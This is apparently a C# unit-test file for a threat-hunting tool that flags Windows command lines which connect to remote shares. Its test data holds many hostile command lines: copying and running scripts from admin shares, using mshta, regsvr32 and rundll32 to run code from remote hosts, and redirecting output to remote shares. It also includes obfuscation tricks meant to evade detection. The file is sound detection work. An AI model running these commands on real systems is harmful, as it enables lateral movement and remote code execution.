using System.Linq;
using TurlaHunt.Hunting.CommandLines;
using Xunit;

namespace TurlaHunt.Tests.Hunting.CommandLines;

/// <summary>
/// Line, verdict, facts (u: net use, d: delete, a: account, p: password), targets.
/// </summary>
public sealed class CommandLineTests
{
    [Theory]
    [InlineData(@"cmd.exe /c net use \\197.168.0.243\c$ Summer19 /user:administrator & copy /y \\197.168.0.243\c$\a.js b.js & b.js", "alert-high", "uap", "ip-public 197.168.0.243 c$; ip-public 197.168.0.243 c$")]
    [InlineData(@"net  use \\197.168.0.243\c$ Summer19 /user:administrator ", "alert-high", "uap", "ip-public 197.168.0.243 c$")]
    [InlineData(@"net use \\8.8.8.8\c$ /user:administrator Summer19", "alert-high", "uap", "ip-public 8.8.8.8 c$")]
    [InlineData(@"net use \\8.8.8.8\ipc$ * /u:administrator", "alert-high", "ua", "ip-public 8.8.8.8 ipc$")]
    [InlineData("net use \\\\8.8.8.8\\ipc$ \"\" /u:\"\"", "alert-high", "ua", "ip-public 8.8.8.8 ipc$")]
    [InlineData(@"nEt1.ExE UsE q: \\8.8.8.8\IPC$ /P:N /Sa", "alert-high", "u", "ip-public 8.8.8.8 ipc$")]
    [InlineData("\"C:\\Windows\\SysWOW64\\net.exe\" use * \\\\8.8.8.8\\d$ pw", "alert-high", "up", "ip-public 8.8.8.8 d$")]
    [InlineData(@"C:\Windows\sysnative\NET1 use \\8.8.8.8\d$", "alert-high", "u", "ip-public 8.8.8.8 d$")]
    [InlineData(@"%SystemRoot%\system32\net use \\8.8.8.8\d$", "alert-high", "u", "ip-public 8.8.8.8 d$")]
    [InlineData(@"%windir%\system32\cmd.exe /q/d /v:on /c%WINDIR%\system32\net.exe use \\8.8.8.8\d$", "alert-high", "u", "ip-public 8.8.8.8 d$")]
    [InlineData(@"cmd/c net use \\8.8.8.8\d$", "alert-high", "u", "ip-public 8.8.8.8 d$")]
    [InlineData(@"cmd /V:ON/E:ON /S /K ""net use \\8.8.8.8\d$ pw /u:x""", "alert-high", "uap", "ip-public 8.8.8.8 d$")]
    [InlineData(@"cmd /c ,;= n^E^t^1 ^u^s^e \\8.8.^8.8\d$", "alert-high", "u", "ip-public 8.8.8.8 d$")]
    [InlineData("cmd /c \"\"net\" \"use\" \"\\\\8.8.8.8\\d$\" \"p w\" /user:\"A B\"\"", "alert-high", "uap", "ip-public 8.8.8.8 d$")]
    [InlineData("cmd /c \"net\" \"use\" \\\\\"8.8.8.8\"\\d$", "alert-high", "u", "ip-public 8.8.8.8 d$")]
    [InlineData("cmd /c net\u00A0use\u00A0\\\\8.8.8.8\\d$\u00A0pw", "alert-high", "up", "ip-public 8.8.8.8 d$")]
    [InlineData("cmd /c net\r\nuse \\\\8.8.8.8\\d$", "alert-high", "u", "ip-public 8.8.8.8 d$")]
    [InlineData(@"cmd /c (net use \\8.8.8.8\d$ pw) && (pushd \\8.8.8.8\d$)", "alert-high", "up", "ip-public 8.8.8.8 d$; ip-public 8.8.8.8 d$")]
    [InlineData(@"cmd /c whoami||net use \\8.8.8.8\d$|more", "alert-high", "u", "ip-public 8.8.8.8 d$")]
    [InlineData(@"cmd /c if exist x (net use \\8.8.8.8\d$ pw) else net use \\9.9.9.9\d$", "alert-high", "up", "ip-public 8.8.8.8 d$; ip-public 9.9.9.9 d$")]
    [InlineData(@"cmd /c for %i in (1 2 3) do net use \\8.8.8.8\d$ pw%i", "alert-high", "up", "ip-public 8.8.8.8 d$")]
    [InlineData("cmd /c \"cmd /k \"cmd /r net use \\\\8.8.8.8\\d$ pw\"\"", "alert-high", "up", "ip-public 8.8.8.8 d$")]
    [InlineData(@"cmd /c start """" /min /b net use \\8.8.8.8\d$ pw", "alert-high", "up", "ip-public 8.8.8.8 d$")]
    [InlineData(@"cmd /c call net use \\8.8.8.8\d$ pw", "alert-high", "up", "ip-public 8.8.8.8 d$")]
    [InlineData(@"powershell -nop -c ""cd c:\; n`et use \\8.8.8.8\d$ 'p w' /user:x; ls""", "alert-high", "uap", "ip-public 8.8.8.8 d$")]
    [InlineData(@"powershell.exe & {net use '\\8.8.8.8\d$' pw}", "alert-high", "up", "ip-public 8.8.8.8 d$")]
    [InlineData(@"powershell Start-Process net -ArgumentList 'use \\8.8.8.8\d$ pw'", "alert-high", "up", "ip-public 8.8.8.8 d$")]
    [InlineData(@"powershell saps net.exe -Args 'use','\\8.8.8.8\d$','pw'", "alert-high", "up", "ip-public 8.8.8.8 d$")]
    [InlineData(@"schtasks /create /tn x /sc minute /mo 30 /tr ""cmd /c net use \\8.8.8.8\d$ pw""", "alert-high", "up", "ip-public 8.8.8.8 d$")]
    [InlineData(@"wmic /node:10.0.0.1 process call create ""cmd.exe /c net use \\8.8.8.8\d$ pw""", "alert-high", "up", "ip-public 8.8.8.8 d$")]
    [InlineData(@"net use \\0xC5A800F7\c$", "alert-high", "u", "ip-public 197.168.0.247 c$")]
    [InlineData(@"net use \\0305.0250.0.0367\c$", "alert-high", "u", "ip-public 197.168.0.247 c$")]
    [InlineData(@"net use \\0xc5.168.247\c$", "alert-high", "u", "ip-public 197.168.0.247 c$")]
    [InlineData(@"net use \\--ffff-197.168.0.247.IPv6-Literal.NET\c$", "alert-high", "u", "ip-public 197.168.0.247 c$")]
    [InlineData(@"net use \\8.8.8.8@SSL@8443\DavWWWRoot\x", "alert-high", "u", "ip-public 8.8.8.8 davwwwroot")]
    [InlineData(@"net use \\?\UNC\8.8.8.8\d$", "alert-high", "u", "ip-public 8.8.8.8 d$")]
    [InlineData(@"net use \\\\8.8.8.8\\d$", "alert-high", "u", "ip-public 8.8.8.8 d$")]
    [InlineData(@"net use \\8.8.8.8", "alert-high", "u", "ip-public 8.8.8.8 ")]
    [InlineData(@"net use Z: HTTPS://User:secret@Docs.Live.NET:443/a?b pw /user:x@aol.co.uk", "alert-high", "uap", "url https://docs.live.net ")]
    [InlineData(@"net use https://3316121847/x", "alert-high", "u", "url https://197.168.0.247 ")]
    [InlineData(@"net use \\8.8.8.8\d$ pw & net use \\8.8.8.8\d$ /d /y", "alert-high", "up", "ip-public 8.8.8.8 d$; ip-public 8.8.8.8 d$")]
    [InlineData(@"net use ""\\8.8.8.8\d$ pw /user:x", "alert-high", "uap", "ip-public 8.8.8.8 d$")]
    [InlineData(@"cmd /c net use \\8.8.8.8\d$ pw>nul 2>&1", "alert-high", "up", "ip-public 8.8.8.8 d$")]
    [InlineData(@"cmd /c for /l %i in (1,1,3) do @net use \\8.8.8.8\d$ pw", "alert-high", "up", "ip-public 8.8.8.8 d$")]
    [InlineData(@"cmd /V:ON /C ""set x=net use&!x! \\8.8.8.8\d$""", "alert-high", "u", "ip-public 8.8.8.8 d$")]
    [InlineData(@"cmd /c set h=8.8.8.8&call net use \\%h%\d$", "alert-high", "u", "ip-public 8.8.8.8 d$")]
    [InlineData(@"cmd /c ""set a=net&&set b=use&&call %a% %b% \\8.8.8.8\d$ pw""", "alert-high", "up", "ip-public 8.8.8.8 d$")]
    [InlineData(@"cmd /c set s=\& call net use %s%%s%8.8.8.8\d$ pw", "alert-high", "up", "ip-public 8.8.8.8 d$")]
    [InlineData(@"cmd /c set x=abtenuse&call %x:~4,1%%x:~3,1%%x:~2,1% %x:~-3% \\8.8.8.8\d$", "alert-high", "u", "ip-public 8.8.8.8 d$")]
    [InlineData(@"cmd /c set x=nXt&call %x:X=e% use \\8.8.8.8\d$", "alert-high", "u", "ip-public 8.8.8.8 d$")]
    [InlineData(@"%ComSpec:~-7,3% /c net use %ComSpec:~2,1%%ComSpec:~2,1%8.8.8.8\d$", "alert-high", "u", "ip-public 8.8.8.8 d$")]
    [InlineData(@"powershell -c ""$h = '8.8.8.8'; net use \\$h\d$ pw""", "alert-high", "up", "ip-public 8.8.8.8 d$")]
    [InlineData(@"powershell -nop -EncodedCommand bgBlAHQAIAB1AHMAZQAgAFwAXAA4AC4AOAAuADgALgA4AFwAZAAkAA==", "alert-high", "u", "ip-public 8.8.8.8 d$")]
    [InlineData(@"cmd /c pow^ershell /w hidden /e ""bgBlAHQAIAB1AHMAZQAgAFwAXAA4AC4AOAAuADgALgA4AFwAZAAkAA==""", "alert-high", "u", "ip-public 8.8.8.8 d$")]
    [InlineData(@"net use \\172.31.0.1\x P@ss&word /user:y", "alert", "uap", "ip-private 172.31.0.1 x")]
    [InlineData(@"net use \\169.254.1.1\x", "alert", "u", "ip-private 169.254.1.1 x")]
    [InlineData(@"net use \\fd00--1.ipv6-literal.net\x", "alert", "u", "ip-private fd00::1 x")]
    [InlineData(@"net use * \\%DomainController%\C$ ""P@ssw0rd"" *", "hunt", "up", "name %domaincontroller% c$")]
    [InlineData(@"net use \\Files.Corp.Example.com.\ipc$ /user:a pw", "hunt", "uap", "name files.corp.example.com ipc$")]
    [InlineData("\"C:\\Windows\\system32\\cmd.exe\" /c \"cmd.exe /c \" net use \\\\Target\\C$ P@ssw0rd1 /u:DOMAIN\\Administrator", "hunt", "uap", "name target c$")]
    public void A_connection_is_seen_in_every_spelling(string line, string expect, string facts, string targets) =>
        Check(line, expect, facts, targets);

    [Theory]
    [InlineData(@"xcopy /y C:\a \\8.8.8.8\d$\ /e", "ip-public 8.8.8.8 d$")]
    [InlineData(@"cmd /c type ""\\8.8.8.8\my share\x"" > y", "ip-public 8.8.8.8 my share")]
    [InlineData(@"cmd /c whoami >\\8.8.8.8\d$\out.txt 2>&1", "ip-public 8.8.8.8 d$")]
    [InlineData(@"cmd /c mklink /d x \\?\UNC\8.8.8.8\d$", "ip-public 8.8.8.8 d$")]
    [InlineData(@"cmd /c move x \\.\UNC\8.8.8.8\d$", "ip-public 8.8.8.8 d$")]
    [InlineData(@"\??\UNC\8.8.8.8\d$\x.exe", "ip-public 8.8.8.8 d$")]
    [InlineData(@"\Device\Mup\8.8.8.8\d$\x.exe", "ip-public 8.8.8.8 d$")]
    [InlineData(@"cmd /c pushd\\8.8.8.8\d$ & a.js", "ip-public 8.8.8.8 d$")]
    [InlineData(@"cmd /c type\\8.8.8.8\d$\x > y", "ip-public 8.8.8.8 d$")]
    [InlineData(@"rundll32 printui.dll,PrintUIEntry /in /n\\8.8.8.8\d$", "ip-public 8.8.8.8 d$")]
    [InlineData(@"powershell -enc XABcADgALgA4AC4AOAAuADgAXABkACQAXAB4AC4AZQB4AGUA", "ip-public 8.8.8.8 d$")]
    [InlineData(@"mshta file://8.8.8.8/d$/x.hta", "ip-public 8.8.8.8 d$")]
    [InlineData(@"regsvr32 /s /u /i:\\8.8.8.8\d$\x.sct scrobj.dll", "ip-public 8.8.8.8 d$")]
    [InlineData(@"certutil -syncwithWU \\8.8.8.8\d$", "ip-public 8.8.8.8 d$")]
    [InlineData(@"powershell -c ""New-SmbMapping -RemotePath '\\\\8.8.8.8\\d$'""", "ip-public 8.8.8.8 d$")]
    [InlineData(@"powershell -c (New-Object -Com WScript.Network).MapNetworkDrive('Z:','\\8.8.8.8\d$')", "ip-public 8.8.8.8 d$")]
    [InlineData(@"powershell [IO.File]::Copy(\""\\8.8.8.8\d$\a\"",'b')", "ip-public 8.8.8.8 d$")]
    [InlineData(@"""\\8.8.8.8\d$\a.exe"" -x", "ip-public 8.8.8.8 d$")]
    [InlineData(@"rundll32 \\8.8.8.8@80\d$\a.dll,Start", "ip-public 8.8.8.8 d$")]
    [InlineData(@"cscript //nologo //E:jscript \\134744072\d$\a", "ip-public 8.8.8.8 d$")]
    [InlineData(@"cmd /c echo x > a & copy a ""\\8.8.8.8\d$\"" & del ""\\9.9.9.9\e$""", "ip-public 8.8.8.8 d$; ip-public 9.9.9.9 e$")]
    public void A_path_to_an_address_is_seen_without_net_use(string line, string targets) =>
        Check(line, "alert-unc", "", targets);

    [Theory]
    [InlineData("net use", "u", "")]
    [InlineData("net use * /d /y", "ud", "")]
    [InlineData(@"net use Z: /DEL", "ud", "")]
    [InlineData(@"cmd /c net use \\8.8.8.8\d$ /d", "ud", "ip-public 8.8.8.8 d$")]
    [InlineData(@"net use \\localhost\ipc$", "u", "loopback localhost ipc$")]
    [InlineData(@"net use \\0x7f.1\c$ pw", "up", "loopback 127.0.0.1 c$")]
    [InlineData(@"net use \\0--1.ipv6-literal.net\c$", "u", "loopback ::1 c$")]
    [InlineData(@"cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1556656369.7 2>&1", "", "loopback 127.0.0.1 admin$")]
    [InlineData(@"net view \\8.8.8.8", "", "")]
    [InlineData("net user bob Winter20 /add", "", "")]
    [InlineData(@"net group ""Domain Admins"" /domain", "", "")]
    [InlineData("net share x=c:\\x", "", "")]
    [InlineData("subnet use x", "", "")]
    [InlineData(@"C:\tools\dotnet.exe use \x", "", "")]
    [InlineData(@"\\.\pipe\x \\?\C:\x \??\C:\y", "", "")]
    [InlineData(@"\??\C:\Windows\system32\conhost.exe 0x4", "", "")]
    [InlineData(@"wmic /namespace:\\root\subscription path x", "", "")]
    [InlineData(@"wmic /namespace:""\\.\root\cimv2"" path x", "", "")]
    [InlineData(@"wbemtest \\10.0.0.5\root\cimv2", "", "")]
    [InlineData(@"cmd /c copy %windir%\\system32\\a.exe C:\\b.exe", "", "")]
    [InlineData(@"explorer http://8.8.8.8/x https:\\8.8.8.8\x", "", "")]
    [InlineData(@"wscript //B //T:30 C:\x.js", "", "")]
    [InlineData(@"findstr /c:""net use"" log.txt", "", "")]
    [InlineData(@"cmd /c echo net use X: pw >> a.bat", "", "")]
    [InlineData(@"sc \\10.0.0.5 query", "", "")]
    [InlineData(@"powershell -enc not-base64-at-all-but-long-enough-to-be", "", "")]
    [InlineData(@"powershell -enc RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQAgAEMAOgBcAA==", "", "")]
    [InlineData(@"cmd /c set a=%a%%a%%a%&set a=%a%%a%%a%&echo %a:~1,2%", "", "")]
    [InlineData(@"copy %SystemRoot:~0,2%\\x\\y z", "", "")]
    [InlineData(@"dir C:\type\\x", "", "")]
    [InlineData(@"robocopy \\nas\a D:\b /mir", "", "name nas a")]
    [InlineData("", "", "")]
    [InlineData("   ", "", "")]
    [InlineData(@"\\", "", "")]
    [InlineData(@"cmd /c", "", "")]
    public void A_near_miss_stays_silent(string line, string facts, string targets) => Check(line, "none", facts, targets);

    [Fact]
    public void Sysmon_doubles_percent_signs()
    {
        CommandLine line = CommandLine.Read(@"%%COMSPEC%% /c net use \\8.8.8.8\d$", CommandLineFlavor.Sysmon);
        Assert.Equal(LineVerdict.PublicShare, line.Verdict);
    }

    [Fact]
    public void What_the_verdict_rests_on_is_said()
    {
        CommandLine line = CommandLine.Read(@"cmd /c n^e^t use \\3316121847@8080\c$ Pass1 /user:CORP\bob");
        Assert.Equal(@"CORP\bob", line.UserName);
        Assert.Contains("net use connects to the public address 197.168.0.247.", line.Reasons);
        Assert.Contains("197.168.0.247 is written as 3316121847@8080.", line.Reasons);
        Assert.Contains("The share c$ is administrative.", line.Reasons);
        Assert.Contains("The password stands on the command line.", line.Reasons);
        Assert.Contains(line.Reasons, reason => reason.Contains("port 8080"));
        Assert.Contains(line.Reasons, reason => reason.Contains("2 carets"));
        Assert.DoesNotContain(line.Reasons, reason => reason.Contains("Pass1"));
        Assert.Equal(1, CommandLine.Read("cmd /c %ComSpec:~-7,1%et").Obfuscation.VariableSubstrings);
    }

    private static void Check(string line, string expect, string facts, string targets) => new LineVector
    {
        CommandLine = line,
        Expect = expect,
        NetUse = facts.Contains('u'),
        Delete = facts.Contains('d'),
        UserSwitch = facts.Contains('a'),
        Password = facts.Contains('p'),
        Targets = targets.Split(';').Where(target => target.Length > 0).Select(ReadTarget).ToArray(),
    }.Check();

    private static string[] ReadTarget(string target) => target.TrimStart().Split([' '], 3);
}
